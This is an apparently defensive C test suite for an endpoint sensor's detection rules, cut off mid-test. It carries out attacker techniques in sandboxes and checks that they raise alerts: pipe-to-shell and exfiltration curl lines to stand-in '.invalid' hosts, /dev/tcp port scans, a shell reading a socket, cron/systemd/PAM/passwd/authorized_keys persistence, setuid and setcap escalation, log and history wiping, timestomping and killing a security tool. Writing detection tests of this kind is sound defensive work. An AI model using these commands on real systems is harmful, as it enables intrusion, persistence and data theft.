// SPDX-License-Identifier: GPL-2.0-only
/*
 * Detection rules on a real sensor: real shells, real connections, the
 * alerts and evidence that reach the store (rules/, hunt/detect.c).
 */
#include <criterion/criterion.h>
#include <limits.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>
#include <arpa/inet.h>
#include <netinet/in.h>

#include "harness.h"

static struct vg_t_host host;

static void setup(void)
{
	/* Room for what the rest of a busy machine writes meanwhile: this suite counts exactly. */
	const char *const args[] = { "--file-ringbuf-kb", "16384", NULL };

	vg_t_host_start(&host, args);
}

static void teardown(void)
{
	if (host.pid > 0)
		vg_t_host_stop(&host, SIGTERM);
}

TestSuite(detect, .init = setup, .fini = teardown, .timeout = 120);

static long long rule_alerts(const char *rule)
{
	return vg_t_wait_int(&host, 0, 0, "SELECT count(*) FROM AlertInfo WHERE RuleId = '%s'",
			     rule);
}

/*
 * A shell loop of 1,000 /dev/tcp probes, each in its own subshell, is one
 * port scan alert with 1,000 evidence rows; a readiness probe (a few
 * subshells trying one loopback port) raises nothing, nor does a loop
 * connecting to 25 servers that listen (a test suite reaching its own
 * servers), and none raises "reverse shell".
 */
Test(detect, a_1000_port_scan_is_one_alert_with_1000_evidence_rows)
{
	struct sockaddr_in sa = { .sin_family = AF_INET,
				  .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
	char cmd[1024] = "bash -c 'for p in";
	int l[25];

	/* the near misses first: once the scan's alert is complete, their rows were judged */
	vg_t_sh("bash -c 'for i in 1 2 3; do (echo > /dev/tcp/127.0.0.1/9) 2>/dev/null && break; "
		"done; true'");
	for (int i = 0; i < 25; i++) {
		socklen_t len = sizeof(sa);

		sa.sin_port = 0;
		l[i] = socket(AF_INET, SOCK_STREAM, 0);
		cr_assert_eq(bind(l[i], (void *)&sa, sizeof(sa)), 0);
		cr_assert_eq(listen(l[i], 4), 0);
		cr_assert_eq(getsockname(l[i], (void *)&sa, &len), 0);
		snprintf(cmd + strlen(cmd), sizeof(cmd) - strlen(cmd), " %d", ntohs(sa.sin_port));
	}
	snprintf(cmd + strlen(cmd), sizeof(cmd) - strlen(cmd),
		 "; do (echo > /dev/tcp/127.0.0.1/$p) 2>/dev/null; done; true'");
	vg_t_sh("%s", cmd);
	for (int i = 0; i < 25; i++)
		close(l[i]);
	vg_t_sh("bash -c 'for p in $(seq 41000 41999); do (echo > /dev/tcp/127.0.0.1/$p) "
		"2>/dev/null; done; true'");
	cr_assert_eq(
		vg_t_wait_int(&host, 1000, 30000,
			      "SELECT EvidenceCount FROM AlertInfo WHERE RuleId = 'port_scan'"),
		1000, "log %s", host.log);
	cr_expect_eq(rule_alerts("port_scan"), 1);
	cr_expect_eq(vg_t_wait_int(&host, 1000, 0,
				   "SELECT count(DISTINCT e.SourceRowId) FROM AlertEvidence e JOIN"
				   " AlertInfo a USING (AlertId) JOIN DeviceNetworkEvents n ON"
				   " n.rowid = e.SourceRowId WHERE a.RuleId = 'port_scan' AND"
				   " n.RemotePort BETWEEN 41000 AND 41999 AND n.ActionType ="
				   " 'ConnectionAttempt'"),
		     1000);
	cr_expect_eq(rule_alerts("reverse_shell"), 0);
	cr_expect_eq(rule_alerts("reverse_shell_net"), 0);
	/* The sensor sees the whole machine: only alerts about these probes count here. */
	cr_expect_eq(
		vg_t_wait_int(&host, 0, 0,
			      "SELECT count(DISTINCT AlertId) FROM AlertInfo a JOIN AlertEvidence e"
			      " USING (AlertId) WHERE a.RuleId != 'port_scan' AND"
			      " (e.RemotePort = 9 OR e.RemotePort BETWEEN 41000 AND 41999 OR"
			      " e.ProcessCommandLine LIKE '%%/dev/tcp/127.0.0.1/%%')"),
		0, "alerts besides the scan's");
}

/* A connected pair of TCP sockets on loopback: *server is the accepted end. */
static void tcp_pair(int *client, int *server)
{
	struct sockaddr_in sa = { .sin_family = AF_INET,
				  .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
	socklen_t len = sizeof(sa);
	int l = socket(AF_INET, SOCK_STREAM, 0);

	cr_assert_eq(bind(l, (void *)&sa, sizeof(sa)), 0);
	cr_assert_eq(listen(l, 1), 0);
	cr_assert_eq(getsockname(l, (void *)&sa, &len), 0);
	*client = socket(AF_INET, SOCK_STREAM, 0);
	cr_assert_eq(connect(*client, (void *)&sa, sizeof(sa)), 0);
	*server = accept(l, NULL, NULL);
	cr_assert_geq(*server, 0);
	close(l);
}

/* Run path with argv on a socket as stdin and stdout, "exit 0" waiting on it; its pid. */
static pid_t run_on_socket(char *const argv[])
{
	int c, a, st;
	pid_t child;

	tcp_pair(&c, &a);
	cr_assert_eq(write(c, "exit 0\n", 7), 7);
	child = fork();
	cr_assert_geq(child, 0);
	if (child == 0) {
		dup2(a, 0);
		dup2(a, 1);
		execv(argv[0], argv);
		_exit(127);
	}
	cr_assert_eq(waitpid(child, &st, 0), child);
	cr_assert(WIFEXITED(st) && WEXITSTATUS(st) == 0, "%s: %d", argv[0], st);
	close(a);
	close(c);
	return child;
}

/*
 * A wrapper script whose stdio is a socket (a plug-in started through a
 * wrapper, the project's WSL relay test) is no reverse shell; a shell
 * reading its commands from the socket is.
 */
Test(detect, a_wrapper_script_on_a_socket_is_no_reverse_shell)
{
	char dir[PATH_MAX], script[PATH_MAX + 16];
	char *wrapper[] = { script, "--transport", "stdio", NULL };
	char *shell[] = { "/bin/sh", NULL };
	pid_t w, s;
	FILE *f;

	vg_t_tmpdir(dir, sizeof(dir), "vg-wrapper");
	snprintf(script, sizeof(script), "%s/plugin-wrapper", dir);
	f = fopen(script, "w");
	cr_assert_not_null(f);
	fputs("#!/bin/sh\nexec /bin/true \"$@\"\n", f);
	cr_assert_eq(fclose(f), 0);
	cr_assert_eq(chmod(script, 0755), 0);

	w = run_on_socket(wrapper);
	s = run_on_socket(shell);
	cr_assert_eq(vg_t_wait_int(&host, 1, 30000,
				   "SELECT count(*) FROM AlertInfo a JOIN AlertEvidence e USING"
				   " (AlertId) WHERE a.RuleId = 'reverse_shell_stdio' AND"
				   " e.ProcessId = %d",
				   s),
		     1, "no alert for a shell reading a socket (log %s)", host.log);
	/* the wrapper ran as the kernel runs scripts: sh SCRIPT, stdio flagged */
	cr_expect_eq(
		vg_t_wait_int(&host, 1, 30000,
			      "SELECT count(*) FROM DeviceProcessEvents WHERE ProcessId = %d AND"
			      " ActionType = 'ProcessCreated' AND FileName IN ('sh', 'dash') AND"
			      " json_extract(AdditionalFields, '$.StdinSocket') = 1",
			      w),
		1);
	cr_expect_eq(rule_alerts("reverse_shell_stdio"), 1, "the wrapper raised an alert");
	cr_expect_eq(rule_alerts("reverse_shell"), 0);
	vg_t_rmrf(dir);
}

/*
 * Attribution at the time of the event: a shell writes a file, then execs
 * another program. The file event names the shell (image and command line),
 * not the program it became, however the rings are drained.
 */
Test(detect, an_event_before_an_exec_names_the_program_of_its_time)
{
	char dir[PATH_MAX];
	const int n = 50;

	vg_t_tmpdir(dir, sizeof(dir), "vg-attrib");
	for (int i = 0; i < n; i++)
		vg_t_sh("/bin/sh -c 'echo x > %s/unit%d.service; exec /bin/true vg-attrib-marker'",
			dir, i);
	cr_assert_eq(vg_t_wait_int(&host, n, 30000,
				   "SELECT count(*) FROM DeviceFileEvents WHERE FolderPath LIKE"
				   " '%s/unit%%.service' AND ActionType = 'FileCreated'",
				   dir),
		     n);
	cr_expect_eq(vg_t_wait_int(&host, n, 0,
				   "SELECT count(*) FROM DeviceFileEvents WHERE FolderPath LIKE"
				   " '%s/unit%%.service' AND ActionType = 'FileCreated' AND"
				   " InitiatingProcessFileName IN ('sh', 'dash', 'bash') AND"
				   " InitiatingProcessCommandLine LIKE '%%exec /bin/true%%'",
				   dir),
		     n, "file events named after the program the shell exec'd later");
	vg_t_rmrf(dir);
}

/*
 * Alerts of rule whose evidence names like (a path or a command line part):
 * the sensor sees the whole machine, other people's work included.
 */
static long long alerts_for(const char *rule, const char *like, long long want, int timeout_ms)
{
	return vg_t_wait_int(
		&host, want, timeout_ms,
		"SELECT count(DISTINCT a.AlertId) FROM AlertInfo a JOIN AlertEvidence e"
		" USING (AlertId) WHERE a.RuleId = '%s' AND (e.FolderPath LIKE '%%%s%%'"
		" OR e.ProcessCommandLine LIKE '%%%s%%')",
		rule, like, like);
}

/* A copy of program at dir/name (a stand-in for a tool, or a masquerading binary). */
static void fake_tool(const char *dir, const char *name, const char *program)
{
	vg_t_sh("cp %s '%s/%s'", program, dir, name);
}

/*
 * Persistence, each written for real: in a private mount namespace with a
 * tmpfs over /etc (nothing of the machine's /etc is touched), and in a
 * temporary home. The same writes by a program named like a package
 * manager are the near misses.
 */
Test(detect, persistence_writes_alert_and_package_managers_do_not)
{
	static const char *const rules[] = {
		"persist_cron",
		"persist_systemd",
		"persist_ld_preload",
		"persist_pam",
		"persist_passwd_write",
		"persist_shell_profile",
		"persist_authorized_keys",
	};
	char dir[PATH_MAX];

	vg_t_tmpdir(dir, sizeof(dir), "vg-persist");
	fake_tool(dir, "dpkg", "/bin/cp");
	/* near misses first: once the real writes' alerts are there, these were judged */
	vg_t_sh("unshare -m --propagation private /bin/sh -c 'mount -t tmpfs vg /etc &&"
		" mkdir -p /etc/cron.d /etc/systemd/system /etc/pam.d &&"
		" %s/dpkg /dev/null /etc/cron.d/vgpkg && %s/dpkg /dev/null /etc/pam.d/vgpkg &&"
		" %s/dpkg /dev/null /etc/systemd/system/vgpkg.service && cp /dev/null /etc/cron.dx &&"
		" echo x > /etc/systemd/system/vgpkg.wants && echo x > /etc/pam.d.vgpkg'",
		dir, dir, dir);
	vg_t_sh("unshare -m --propagation private /bin/sh -c 'mount -t tmpfs vg /etc &&"
		" mkdir -p /etc/cron.d /etc/systemd/system /etc/pam.d &&"
		" echo \"* * * * * root id\" > /etc/cron.d/vgjob &&"
		" echo [Service] > /etc/systemd/system/vgjob.service &&"
		" echo > /etc/ld.so.preload && echo auth > /etc/pam.d/vgjob &&"
		" echo vgjob:x:0:0::/root:/bin/sh >> /etc/passwd'");
	vg_t_sh("mkdir -p %s/.ssh && echo vgjob >> %s/.bashrc && echo vgjob >> %s/.ssh/authorized_keys",
		dir, dir, dir);
	cr_expect_eq(alerts_for("persist_cron", "/etc/cron.d/vgjob", 1, 30000), 1);
	cr_expect_eq(alerts_for("persist_systemd", "vgjob.service", 1, 30000), 1);
	cr_expect_eq(alerts_for("persist_ld_preload", "/etc/ld.so.preload", 1, 30000), 1);
	cr_expect_eq(alerts_for("persist_pam", "/etc/pam.d/vgjob", 1, 30000), 1);
	cr_expect_eq(alerts_for("persist_passwd_write", "/etc/passwd", 1, 30000), 1);
	cr_expect_eq(alerts_for("persist_shell_profile", dir, 1, 30000), 1);
	cr_expect_eq(alerts_for("persist_authorized_keys", dir, 1, 30000), 1);
	for (size_t i = 0; i < sizeof(rules) / sizeof(rules[0]); i++)
		cr_expect_eq(alerts_for(rules[i], "vgpkg", 0, 0), 0, "%s", rules[i]);
	cr_expect_eq(alerts_for("persist_cron", "/etc/cron.dx", 0, 0), 0);
	vg_t_rmrf(dir);
}

/* Privilege escalation and defence evasion, each done for real, with its near miss. */
Test(detect, setid_history_log_aslr_and_masquerading)
{
	char dir[PATH_MAX];

	vg_t_tmpdir(dir, sizeof(dir), "vg-evade");
	/* near misses: a plain chmod, history appended to, another log removed, ASLR read */
	vg_t_sh("cd %s && cp /bin/true plain && chmod 755 plain && echo ls >> .bash_history &&"
		" cat /proc/sys/kernel/randomize_va_space > /dev/null && cp /bin/true vgok && ./vgok",
		dir);
	vg_t_sh("unshare -m --propagation private /bin/sh -c 'mount -t tmpfs vg /var/log &&"
		" echo x > /var/log/vgold.log && rm /var/log/vgold.log'");
	/* the real ones */
	vg_t_sh("cd %s && cp /bin/true rootsh && chmod 4755 rootsh && rm .bash_history &&"
		" echo x > .zsh_history && : > .zsh_history",
		dir);
	vg_t_sh("unshare -m --propagation private /bin/sh -c 'mount -t tmpfs vg /var/log &&"
		" echo x > /var/log/wtmp && rm /var/log/wtmp'");
	/* the value it has, written back: a write all the same */
	vg_t_sh("v=$(cat /proc/sys/kernel/randomize_va_space) &&"
		" echo $v > /proc/sys/kernel/randomize_va_space && setarch $(uname -m) -R /bin/true");
	vg_t_sh("cd %s && cp /bin/true sshd && ./sshd", dir);

	cr_expect_eq(alerts_for("privesc_setid_chmod", "rootsh", 1, 30000), 1);
	cr_expect_eq(alerts_for("evasion_history", "/.bash_history", 1, 30000), 1);
	cr_expect_eq(alerts_for("evasion_history", "/.zsh_history", 1, 30000), 1);
	cr_expect_eq(alerts_for("evasion_log_tamper", "/var/log/wtmp", 1, 30000), 1);
	cr_expect_eq(alerts_for("evasion_aslr", "randomize_va_space", 1, 30000), 1);
	cr_expect_eq(alerts_for("evasion_aslr_cmdline", "-R /bin/true", 1, 30000), 1);
	cr_expect_eq(alerts_for("evasion_masquerade", "/sshd", 1, 30000), 1);
	cr_expect_eq(alerts_for("privesc_setid_chmod", "plain", 0, 0), 0);
	cr_expect_eq(alerts_for("evasion_log_tamper", "vgold", 0, 0), 0);
	cr_expect_eq(alerts_for("evasion_masquerade", "vgok", 0, 0), 0);
	vg_t_rmrf(dir);
}

/*
 * Execution, discovery and exfiltration by command line: a stand-in curl
 * (a copy of /bin/true: nothing leaves the machine) piped to a shell and
 * uploading, a base64-decoded script, a burst of discovery tools; each
 * with its near miss.
 */
Test(detect, pipe_to_shell_base64_discovery_and_exfiltration)
{
	char dir[PATH_MAX];

	vg_t_tmpdir(dir, sizeof(dir), "vg-exec");
	fake_tool(dir, "curl", "/bin/true");
	/* near misses: a download to a file, decoding to a file, 7 discovery tools, a GET */
	vg_t_sh("%s/curl -o %s/x https://vg-near.invalid/x && echo aGk= | base64 -d > /dev/null",
		dir, dir);
	vg_t_sh("/bin/sh -c 'id; whoami; uname -a; df; env; nproc; groups; echo vg-few' > /dev/null");
	vg_t_sh("%s/curl -s https://vg-near.invalid/get", dir);
	/* the real ones */
	/* system()'s shell is the one whose command line pipes */
	vg_t_sh("%s/curl -fsSL https://vg-pipe.invalid/i.sh | sh", dir);
	vg_t_sh("echo dHJ1ZQo= | base64 -d | sh");
	vg_t_sh("/bin/sh -c 'id; whoami; uname -a; df; env; nproc; groups; printenv; mount; echo vg-many'"
		" > /dev/null");
	vg_t_sh("%s/curl -T /etc/hostname https://vg-exfil.invalid/up", dir);

	cr_expect_eq(alerts_for("exec_pipe_to_shell", "vg-pipe", 1, 30000), 1);
	cr_expect_eq(alerts_for("exec_base64_script", "dHJ1ZQo=", 1, 30000), 1);
	cr_expect_eq(alerts_for("exfil_cmdline", "vg-exfil", 1, 30000), 1);
	cr_expect_eq(
		vg_t_wait_int(&host, 9, 30000,
			      "SELECT EvidenceCount FROM AlertInfo a WHERE RuleId ="
			      " 'discovery_burst' AND EXISTS (SELECT 1 FROM AlertEvidence e WHERE"
			      " e.AlertId = a.AlertId AND e.FileName = 'printenv')"),
		9, "one alert, each of the 9 tools its evidence");
	cr_expect_eq(alerts_for("exec_pipe_to_shell", "vg-near", 0, 0), 0);
	cr_expect_eq(alerts_for("exec_base64_script", "aGk=", 0, 0), 0);
	cr_expect_eq(alerts_for("exfil_cmdline", "vg-near", 0, 0), 0);
	cr_expect_eq(
		vg_t_wait_int(&host, 0, 0,
			      "SELECT count(*) FROM AlertEvidence e JOIN DeviceProcessEvents p ON"
			      " e.SourceTable = 'DeviceProcessEvents' AND p.rowid = e.SourceRowId"
			      " WHERE p.InitiatingProcessCommandLine LIKE '%%vg-few%%'"),
		0, "7 tools raised an alert");
	vg_t_rmrf(dir);
}

/*
 * A script run through its interpreter counts as the script (ScriptPath):
 * ./x.sh with #! (the kernel runs "sh ./x.sh") and sh y.sh from a temporary
 * directory run from /tmp, and a script "downloaded" (written by a program
 * named curl: a copy of /bin/cp), made executable and run is the dropper.
 * A -c command names no script.
 */
Test(detect, a_script_counts_as_the_script_not_its_interpreter)
{
	char dir[PATH_MAX];

	vg_t_tmpdir(dir, sizeof(dir), "vg-script");
	fake_tool(dir, "curl", "/bin/cp");
	vg_t_sh("cd %s && mkdir src && printf '#!/bin/sh\\nexit 0\\n' > src/x.sh &&"
		" printf 'exit 0\\n' > src/y.sh && sh -c 'exit 0'",
		dir);
	vg_t_sh("cd %s && ./curl src/x.sh x.sh && chmod +x x.sh && ./x.sh && sh src/y.sh", dir);
	cr_expect_eq(
		vg_t_wait_int(&host, 1, 30000,
			      "SELECT count(*) FROM DeviceProcessEvents WHERE ActionType ="
			      " 'ProcessCreated' AND json_extract(AdditionalFields, '$.ScriptPath')"
			      " = '%s/x.sh' AND FileName IN ('sh', 'dash')",
			      dir),
		1);
	cr_expect_eq(
		vg_t_wait_int(&host, 1, 30000,
			      "SELECT count(*) FROM DeviceProcessEvents WHERE ActionType ="
			      " 'ProcessCreated' AND json_extract(AdditionalFields, '$.ScriptPath')"
			      " = '%s/src/y.sh'",
			      dir),
		1);
	cr_expect_eq(
		vg_t_wait_int(&host, 1, 30000,
			      "SELECT count(*) FROM AlertInfo a JOIN AlertEvidence e USING"
			      " (AlertId) WHERE a.RuleId = 'download_exec' AND e.ProcessCommandLine"
			      " LIKE '%%./x.sh'"),
		1);
	cr_expect_eq(alerts_for("exec_from_tmp", "x.sh", 1, 30000), 1);
	cr_expect_eq(alerts_for("exec_from_tmp", "src/y.sh", 1, 30000), 1);
	cr_expect_eq(
		vg_t_wait_int(&host, 0, 0,
			      "SELECT count(*) FROM DeviceProcessEvents WHERE"
			      " ProcessCommandLine LIKE '%%exit 0%%' AND ProcessCurrentDirectory"
			      " = '%s' AND json_type(AdditionalFields, '$.ScriptPath') IS NOT NULL",
			      dir),
		0);
	vg_t_rmrf(dir);
}

/*
 * Persistence and privilege escalation through the new file telemetry, each
 * as the public Atomic test does it: systemctl enable (offline, in a
 * private mount namespace with a tmpfs over /etc/systemd/system), setcap
 * cap_setuid+ep on a copied binary, chattr +i on a file under /etc (a
 * tmpfs too). Near misses: the same link made by a program named like a
 * package manager, a link into a .wants directory elsewhere, a user.*
 * attribute, chattr +i on a file of the temporary directory, chattr +d on
 * /etc.
 */
Test(detect, systemd_enable_setcap_and_chattr)
{
	char dir[PATH_MAX], near[PATH_MAX + 16];

	vg_t_tmpdir(dir, sizeof(dir), "vg-persist2");
	fake_tool(dir, "dpkg", "/bin/ln");
	snprintf(near, sizeof(near), "%s/near", dir);
	/* near misses first: once the real ones' alerts are there, these were judged */
	vg_t_sh("unshare -m --propagation private /bin/sh -c 'mount -t tmpfs vg /etc/systemd/system &&"
		" mkdir /etc/systemd/system/multi-user.target.wants && echo > /etc/vgpkg.service &&"
		" %s/dpkg -s /etc/vgpkg.service /etc/systemd/system/multi-user.target.wants/vgpkg.service'",
		dir);
	vg_t_sh("mkdir -p %s/x.wants && ln -s /bin/true %s/x.wants/vgnear.service", dir, dir);
	vg_t_sh("cd %s && cp /bin/true near && setcap -v cap_setuid+ep /bin/true >/dev/null 2>&1;"
		" python3 -c 'import os; os.setxattr(\"near\", \"user.vg\", b\"1\")' &&"
		" chattr +i near && chattr -i near",
		dir);
	vg_t_sh("unshare -m --propagation private /bin/sh -c 'mount -t tmpfs vg /etc &&"
		" echo x > /etc/vgnear.conf && chattr +d /etc/vgnear.conf'");
	/* the real ones */
	vg_t_sh("unshare -m --propagation private /bin/sh -c 'mount -t tmpfs vg /etc/systemd/system &&"
		" printf \"[Service]\\nExecStart=/bin/true\\n[Install]\\nWantedBy=multi-user.target\\n\""
		" > /etc/systemd/system/vgjob.service &&"
		" SYSTEMD_OFFLINE=1 systemctl enable vgjob.service 2>/dev/null'");
	vg_t_sh("cd %s && cp /bin/true vgcap && setcap cap_setuid+ep vgcap", dir);
	vg_t_sh("unshare -m --propagation private /bin/sh -c 'mount -t tmpfs vg /etc &&"
		" echo x > /etc/vgjob.conf && chattr +i /etc/vgjob.conf && chattr -i /etc/vgjob.conf'");

	cr_expect_eq(alerts_for("persist_systemd_enable", "multi-user.target.wants/vgjob.service",
				1, 30000),
		     1);
	cr_expect_eq(alerts_for("privesc_setcap", "/vgcap", 1, 30000), 1);
	cr_expect_eq(alerts_for("evasion_chattr_immutable", "/etc/vgjob.conf", 1, 30000), 1);
	/* the near misses' events are there: only the rules let them be */
	cr_expect_eq(vg_t_wait_int(&host, 1, 30000,
				   "SELECT count(*) FROM DeviceFileEvents WHERE ActionType ="
				   " 'ExtendedAttributeSet' AND FolderPath = '%q' AND"
				   " json_extract(AdditionalFields, '$.AttributeName') = 'user.vg'",
				   near),
		     1);
	cr_expect_eq(alerts_for("persist_systemd_enable", "vgpkg", 0, 0), 0);
	cr_expect_eq(alerts_for("persist_systemd_enable", "vgnear", 0, 0), 0);
	cr_expect_eq(alerts_for("privesc_setcap", "/near", 0, 0), 0);
	cr_expect_eq(alerts_for("evasion_chattr_immutable", "/near", 0, 0), 0);
	cr_expect_eq(alerts_for("evasion_chattr_immutable", "vgnear.conf", 0, 0), 0);
	vg_t_rmrf(dir);
}

/* Start dir/name 300 (a copy of sleep) and wait until its exec is stored; its pid. */
static pid_t start_stored(const char *dir, const char *name)
{
	char path[PATH_MAX + 64];
	char *const argv[] = { (char *)name, "300", NULL };

	snprintf(path, sizeof(path), "%s/%s", dir, name);
	return vg_t_exec_stored(&host, path, argv, NULL, 0);
}

/*
 * Defence evasion through the new telemetry, as the Atomic tests do it:
 * touch -a -t, touch -m -t and touch -acmr on one file (one alert: one
 * process tree), kill -9 of a security tool (a copy of sleep named falco),
 * a program run with LD_PRELOAD naming a library in a temporary directory
 * (a copy of libm: harmless to preload). Near misses: cp -p (times kept on
 * a copy), a plain touch, kill -9 of another program, LD_PRELOAD of a
 * system library, LD_LIBRARY_PATH alone.
 */
Test(detect, timestomp_security_tool_killed_and_ld_preload)
{
	char dir[PATH_MAX];
	pid_t tool, other;
	int st;

	vg_t_tmpdir(dir, sizeof(dir), "vg-evade2");
	fake_tool(dir, "falco", "/bin/sleep");
	fake_tool(dir, "vgsleep", "/bin/sleep");
	fake_tool(dir, "vgpre.so", "/lib/x86_64-linux-gnu/libm.so.6");
	/* near misses first */
	vg_t_sh("cd %s && cp -p /bin/true vgcopy && touch vgplain", dir);
	other = start_stored(dir, "vgsleep");
	vg_t_sh("kill -9 %d", other);
	cr_assert_eq(waitpid(other, &st, 0), other);
	vg_t_sh("LD_PRELOAD=/lib/x86_64-linux-gnu/libm.so.6 /bin/true vg-near-preload &&"
		" LD_LIBRARY_PATH=%s /bin/true vg-near-libpath",
		dir);
	/* the real ones */
	vg_t_sh("cd %s && echo x > ts.txt && touch -a -t 197001010000.00 ts.txt &&"
		" touch -m -t 197001010000.00 ts.txt && touch -acmr /bin/sh ts.txt",
		dir);
	tool = start_stored(dir, "falco");
	vg_t_sh("kill -9 %d", tool);
	cr_assert_eq(waitpid(tool, &st, 0), tool);
	vg_t_sh("LD_PRELOAD=%s/vgpre.so /bin/true vg-preload-marker", dir);

	cr_expect_eq(alerts_for("evasion_timestomp", "/ts.txt", 1, 30000), 1);
	cr_expect_eq(vg_t_wait_int(&host, 3, 30000,
				   "SELECT EvidenceCount FROM AlertInfo a WHERE RuleId ="
				   " 'evasion_timestomp' AND EXISTS (SELECT 1 FROM AlertEvidence e"
				   " WHERE e.AlertId = a.AlertId AND e.FolderPath = '%q/ts.txt')",
				   dir),
		     3, "one alert, each touch its evidence");
	cr_expect_eq(alerts_for("evasion_kill_security_tool", "/falco", 1, 30000), 1);
	cr_expect_eq(alerts_for("exec_ld_preload", "vg-preload-marker", 1, 30000), 1);
	/* the near misses' events are there: only the rules let them be */
	cr_expect_eq(vg_t_wait_int(&host, 1, 30000,
				   "SELECT count(*) > 0 FROM DeviceFileEvents WHERE ActionType ="
				   " 'FileTimestampChanged' AND FolderPath = '%q/vgcopy'",
				   dir),
		     1);
	cr_expect_eq(
		vg_t_wait_int(&host, 1, 30000,
			      "SELECT count(*) FROM DeviceEvents WHERE ActionType = 'SignalSent'"
			      " AND json_extract(AdditionalFields, '$.TargetProcessId') = %d",
			      other),
		1);
	cr_expect_eq(alerts_for("evasion_timestomp", "vgcopy", 0, 0), 0);
	cr_expect_eq(alerts_for("evasion_timestomp", "vgplain", 0, 0), 0);
	cr_expect_eq(alerts_for("evasion_kill_security_tool", "vgsleep", 0, 0), 0);
	cr_expect_eq(alerts_for("exec_ld_preload", "vg-near-", 0, 0), 0);
	vg_t_rmrf(dir);
}

/*
 * A script without #! run from a temporary directory: its execve fails with
 * ENOEXEC and bash runs it itself, in the same process, without an exec.
 * It is seen as the script all the same (ScriptPath, ShellFallback), so
 * "run from /tmp" fires once; a script with #! is an ordinary exec.
 */
Test(detect, a_script_without_shebang_run_by_bash_is_the_script)
{
	char dir[PATH_MAX];

	vg_t_tmpdir(dir, sizeof(dir), "vg-noshebang");
	vg_t_sh("cd %s && printf 'exit 0\\n' > plain.sh && printf '#!/bin/sh\\nexit 0\\n' > bang.sh &&"
		" chmod +x plain.sh bang.sh && bash -c './plain.sh; ./bang.sh; true'",
		dir);
	cr_expect_eq(
		vg_t_wait_int(&host, 1, 30000,
			      "SELECT count(*) FROM DeviceProcessEvents WHERE ActionType ="
			      " 'ProcessCreated' AND json_extract(AdditionalFields, '$.ScriptPath')"
			      " = '%s/plain.sh' AND json_extract(AdditionalFields,"
			      " '$.ShellFallback') = 1 AND FileName = 'bash' AND ProcessCommandLine"
			      " LIKE '%%bash ./plain.sh'",
			      dir),
		1);
	cr_expect_eq(alerts_for("exec_from_tmp", "plain.sh", 1, 30000), 1);
	cr_expect_eq(alerts_for("exec_from_tmp", "bang.sh", 1, 30000), 1);
	cr_expect_eq(
		vg_t_wait_int(&host, 0, 0,
			      "SELECT count(*) FROM DeviceProcessEvents WHERE"
			      " json_extract(AdditionalFields, '$.ScriptPath') = '%s/bang.sh' AND"
			      " json_type(AdditionalFields, '$.ShellFallback') IS NOT NULL",
			      dir),
		0);
	vg_t_rmrf(dir);
}

/*
 * Install (dpkg, through apt-get: it waits for the package lock) the .deb at
 * path, or purge name; apt-get's output goes to dir/apt.log, and to standard
 * error when it fails (say, "dpkg was interrupted" on a machine where an
 * earlier install was killed), so the failed run's log says why.
 */
static int apt(const char *dir, const char *what, const char *arg)
{
	char cmd[3 * PATH_MAX];

	snprintf(cmd, sizeof(cmd),
		 "DEBIAN_FRONTEND=noninteractive apt-get -y -q -o DPkg::Lock::Timeout=300 %s '%s'"
		 " </dev/null >'%s/apt.log' 2>&1 || { st=$?; echo 'apt-get %s %s:' >&2;"
		 " tail -n 20 '%s/apt.log' >&2; exit $st; }",
		 what, arg, dir, what, arg, dir);
	return system(cmd);
}

/*
 * A package's maintainer scripts do what an attacker does, run by dpkg: a
 * postinst calls setcap, chmod u+s, update-alternatives, deb-systemd-helper
 * and systemctl enable, and writes a PAM file (as libgstreamer1.0-0,
 * iproute2, debhelper's scripts and pam-auth-update do). Installed for real
 * (a package built here with dpkg-deb), none of it alerts; the same
 * commands from a shell, on copies in the temporary directory, do.
 */
Test(detect, a_package_maintainer_script_is_not_an_attack)
{
	static const char *const rules[] = {
		"privesc_setcap",    "privesc_setid_chmod", "persist_systemd_enable",
		"evasion_timestomp", "persist_pam",
	};
	const char *const pkg = "vgtest-maint";
	char dir[PATH_MAX], deb[PATH_MAX + 32], installed[64];

	vg_t_tmpdir(dir, sizeof(dir), "vg-maint");
	snprintf(deb, sizeof(deb), "%s/%s.deb", dir, pkg);
	snprintf(installed, sizeof(installed), "dpkg -s '%s' >/dev/null 2>&1", pkg);
	if (system(installed) == 0)
		apt(dir, "purge", pkg); /* a run killed before its purge */
	vg_t_sh("cd %s && mkdir -p p/DEBIAN p/usr/lib/%s p/lib/systemd/system &&"
		" cp /bin/true p/usr/lib/%s/helper && cp /bin/true p/usr/lib/%s/helper2 &&"
		" printf '[Service]\\nExecStart=/bin/true\\n[Install]\\nWantedBy=multi-user.target\\n'"
		" > p/lib/systemd/system/%s.service &&"
		" printf 'Package: %s\\nVersion: 1.0\\nArchitecture: all\\nMaintainer: vigil"
		" <vigil@localhost>\\nDescription: vigil detect test\\n' > p/DEBIAN/control",
		dir, pkg, pkg, pkg, pkg, pkg);
	vg_t_sh("cd %s && printf '#!/bin/sh\\nset -e\\nif [ \"$1\" = configure ]; then\\n"
		"setcap cap_net_raw+ep /usr/lib/%s/helper\\nchmod u+s /usr/lib/%s/helper2\\n"
		"update-alternatives --quiet --install /usr/bin/%s %s /usr/lib/%s/helper 10\\n"
		"deb-systemd-helper enable %s.service >/dev/null || true\\n"
		"SYSTEMD_OFFLINE=1 systemctl enable %s.service >/dev/null 2>&1 || true\\n"
		"echo \"# %s\" > /etc/pam.d/%s\\nfi\\n' > p/DEBIAN/postinst &&"
		" printf '#!/bin/sh\\nset -e\\nupdate-alternatives --quiet --remove %s /usr/lib/%s/helper\\n"
		"SYSTEMD_OFFLINE=1 systemctl disable %s.service >/dev/null 2>&1 || true\\n' > p/DEBIAN/prerm &&"
		" printf '#!/bin/sh\\nrm -f /etc/pam.d/%s /etc/systemd/system/multi-user.target.wants/%s.service\\n"
		"deb-systemd-helper purge %s.service >/dev/null 2>&1 || true\\n' > p/DEBIAN/postrm &&"
		" chmod 755 p/DEBIAN/postinst p/DEBIAN/prerm p/DEBIAN/postrm &&"
		" dpkg-deb -Zgzip --root-owner-group -b p %s >/dev/null",
		dir, pkg, pkg, pkg, pkg, pkg, pkg, pkg, pkg, pkg, pkg, pkg, pkg, pkg, pkg, pkg,
		deb);
	/* the near miss first: once the shell's alerts are there, it was judged */
	cr_assert_eq(apt(dir, "install", deb), 0, "apt-get install %s", deb);
	cr_expect_eq(vg_t_wait_int(&host, 1, 30000,
